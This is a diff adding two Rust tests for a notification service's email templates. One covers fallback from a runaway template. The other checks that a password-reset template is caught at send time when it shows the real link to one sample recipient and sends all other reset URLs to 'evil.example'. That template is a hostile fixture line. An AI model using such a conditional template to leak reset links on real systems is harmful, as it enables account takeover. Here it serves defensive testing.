@@ -306,3 +306,57 @@ async fn a_fresh_claim_defers_the_send_and_a_stale_one_is_taken_over() {
     acknowledged(&app, &deps, &body).await;
     assert_eq!(app.emails_to(&email).await.len(), 1);
 }
+
+#[tokio::test]
+async fn a_runaway_template_in_the_table_falls_back_to_the_default_and_the_batch_goes_on() {
+    let app = TestApp::spawn().await;
+    let deps = deps!(app, notifications_on_event);
+    // Written straight into the table, past the API's checks.
+    let runaway =
+        notifications_core::Template { subject: "Welcome".into(), text: RUNAWAY.into(), html: None, sms: None };
+    store(&app)
+        .put_template(notifications_core::TemplateName::Welcome, &runaway, chrono::Utc::now())
+        .await
+        .expect("stored");
+    let users: Vec<(String, String)> = (0..5).map(|_| user()).collect();
+    let bodies: Vec<String> = users.iter().map(|(id, email)| delivered_body(&registered(id, email))).collect();
+    acknowledged(&app, &deps, &bodies).await;
+    for (_, email) in &users {
+        let emails = app.emails_to(email).await;
+        assert_eq!(emails.len(), 1, "{email}: {emails:?}");
+        assert_eq!(emails[0]["subject"], "Welcome to Bazaar", "the default template is sent");
+    }
+}
+
+#[tokio::test]
+async fn a_reset_template_that_links_elsewhere_for_some_recipients_is_not_used_for_them() {
+    let app = TestApp::spawn().await;
+    let deps = deps!(app, notifications_on_event);
+    // It shows the sample recipient the real link, so it passes the check at PUT, and sends
+    // everyone else's link to another site: the check at send time catches it.
+    let sneaky = json!({
+        "subject": "Reset your password",
+        "text": "{% if email == 'ana@example.com' %}{{ reset_url }}{% else %}https://evil.example/?{{ reset_url }}{% endif %}",
+    });
+    let r = notifications_templates_put::handler(
+        &deps!(app, notifications_templates_put),
+        request("PUT", "/notifications/templates/password_reset", None, Some(&sneaky.to_string()), Some(&admin())),
+    )
+    .await;
+    assert_eq!(r.status(), 200, "{}", text(&r));
+    let (id, email) = user();
+    let event = Envelope::new(
+        PasswordResetRequested {
+            user_id: id,
+            email: email.clone(),
+            reset: LinkRef { id: uuid::Uuid::new_v4().to_string(), expires_at: chrono::Utc::now() },
+        },
+        "corr",
+    );
+    acknowledged(&app, &deps, &[delivered_body(&event)]).await;
+    let emails = app.emails_to(&email).await;
+    assert_eq!(emails.len(), 1);
+    let body = emails[0]["body"].as_str().unwrap_or_default();
+    assert!(!body.contains("evil.example"), "{body}");
+    assert!(link_token(body, &format!("{}?token=", deps.pages.password_reset)).is_some(), "{body}");
+}
